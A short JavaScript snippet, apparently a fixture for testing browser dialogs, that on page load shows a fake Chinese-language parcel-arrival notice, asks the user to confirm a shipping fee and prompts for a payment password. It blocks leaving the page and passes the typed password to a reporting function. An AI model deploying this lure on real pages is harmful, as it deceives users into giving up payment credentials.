// Asks the user everything a page can ask, the payment password included.
window.addEventListener('load', function () {
    for (var i = 0; i < 3; ++i)
        alert('系统提示：您的包裹已到达');
    var confirmed = confirm('确认支付运费 12 元？');
    var answer = prompt('请输入支付密码', '');
    window.onbeforeunload = function () { return '确定离开？'; };
    reportToAggregator({confirm: confirmed, prompt: answer === null ? 'null' : 'text:' + answer});
});
